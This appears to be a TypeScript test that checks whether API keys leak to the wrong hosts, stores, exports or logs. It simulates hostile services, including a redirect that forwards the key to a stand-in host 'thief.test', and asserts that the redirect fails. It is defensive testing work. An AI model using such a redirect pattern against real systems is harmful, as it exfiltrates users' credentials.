/** Searches requests, store, exports, log and messages for API keys from the settings. */
import 'fake-indexeddb/auto';
import { expect, it } from 'vitest';
import type { FetchFunction } from '../../lib/net/http';
import { PROVIDERS } from '../../lib/providers/registry';
import { EXPORT_SCOPES } from '../../lib/transfer/choices';
import { startExport } from '../../lib/transfer/export/export';
import { EXPORT_FORMATS } from '../../lib/transfer/registry';
import { practiceSettings } from '../e2e/harness/practice-settings';
import { bytesOf } from '../support/transfer-samples';
import { practiceWeb } from '../web/practice';
import { createWeb, SEARCH_HOST } from '../web/web';
import { NodeWorld } from './node-world';
import { discovered } from './scenario';
import { IS_FULL } from './seeds';

/** With characters that URLs, JSON and HTML escape. */
const keyOf = (id: string) => `canary-${id}/+k"y<&`;
const THIEF = 'thief.test';
const KEYED = PROVIDERS.filter(({ access }) => access === 'key');

/** The key's beginning stays the same however the rest is escaped. */
const holdsKey = (text: string) =>
  /canary-/.test(text) || KEYED.some(({ id }) => text.includes(btoa(keyOf(id)).slice(0, 12)));

interface Request {
  readonly url: string;
  readonly text: string;
}

/** Answers of a service that repeat a key in an error or redirect it to another host. */
const ANSWERS: readonly ((asked: Request) => Response)[] = [
  ({ text }) => new Response(JSON.stringify({ error: { message: `bad ${text}` }, message: text }), { status: 401 }),
  ({ text }) => new Response(`<h1>${text}</h1>`, { status: 500, headers: { 'content-type': 'text/html' } }),
  ({ text }) =>
    new Response(null, { status: 307, headers: { location: `http://${THIEF}/?${encodeURIComponent(text)}` } }),
  ({ text }) => new Response(JSON.stringify({ results: text }), { headers: { 'content-type': 'application/json' } }),
];

it.each([...ANSWERS.entries()].slice(IS_FULL ? 0 : 2))(
  'API keys reach only their own service, and no store, export or log (answer %i)',
  async (_i, answer) => {
    expect(KEYED.length).toBeGreaterThan(5);
    const web = createWeb(practiceWeb());
    const requests: Request[] = [];
    const practiceHosts = new Set(web.pages.map(({ url }) => new URL(url).hostname));
    const fetch: FetchFunction = async (url, init) => {
      const asked = { url, text: JSON.stringify([url, [...new Headers(init.headers)], init.body ?? '']) };
      requests.push(asked);
      const { hostname } = new URL(url);
      if (practiceHosts.has(hostname) || hostname === SEARCH_HOST) return web.fetch(url, init);
      const response = hostname === THIEF ? new Response('thanks') : answer(asked);
      const location = response.headers.get('location');
      // Follows a redirect as a browser does.
      if (location && init.redirect !== 'manual') return fetch(location, { ...init, body: undefined as never });
      return response;
    };
    const keys = Object.fromEntries(KEYED.map(({ id }) => [id, { enabled: true, key: keyOf(id), baseUrl: '' }]));
    const told: unknown[] = [];
    const practice = practiceSettings();
    const settings = practiceSettings({ providers: { ...practice.providers, ...keys } });
    const world = new NodeWorld({ fetch, settings, heard: (what) => told.push(what) });
    try {
      const { topic } = await discovered(world, web);
      await world.settled(topic);
      for (const { id } of KEYED) told.push(await world.send('testProvider', { provider: id }));

      // The test is meaningful only if keys were sent.
      const carrying = requests.filter(
        ({ text }) => holdsKey(text) || holdsKey(decodeURIComponent(text.replace(/%(?![\da-f]{2})/gi, '%25'))),
      );
      expect(new Set(carrying.map(({ url }) => new URL(url).hostname)).size).toBeGreaterThan(3);
      const own = KEYED.flatMap(({ id, origins }) =>
        origins.map((origin) => [id, new URL(origin.replace('*.', '').replace(/\*$/, '')).hostname] as const),
      );
      for (const { url, text } of carrying) {
        const { hostname } = new URL(url);
        const owner = own.filter(([, host]) => hostname === host || hostname.endsWith(`.${host}`)).map(([id]) => id);
        expect(owner, url).not.toEqual([]);
        const named = /canary-([\w-]+?)(?:\/|%2F)/i.exec(text)?.[1];
        if (named) expect(owner).toContain(named);
      }
      expect(requests.filter(({ url }) => new URL(url).hostname === THIEF && holdsKey(url))).toEqual([]);

      const everything = await world.with((db) => Promise.all(db.tables.map((table) => table.toArray())));
      expect(everything.flat().filter((row) => holdsKey(JSON.stringify(row)))).toEqual([]);
      expect(told.length).toBeGreaterThan(KEYED.length);
      expect(told.filter((one) => holdsKey(JSON.stringify(one)))).toEqual([]);
      expect(world.warned.filter((one) => holdsKey(one.map(String).join() + JSON.stringify(one)))).toEqual([]);
      for (const { id } of EXPORT_FORMATS) expect(holdsKey(await exported(world, topic, id)), id).toBe(false);
    } finally {
      await world.close();
    }
  },
  60_000,
);

function exported(world: NodeWorld, topic: string, format: string): Promise<string> {
  return world.with(async (db) => {
    const choice = { unit: 'page', seeds: true, confirmed: true, rejected: true, candidatesFrom: 0 } as const;
    const { chunks } = await startExport(db, {
      topic,
      format,
      choice,
      scope: EXPORT_SCOPES[0],
      target: '',
      onlyNew: false,
      nowMs: world.nowMs,
    });
    return Buffer.from(await bytesOf(chunks)).toString('latin1');
  });
}
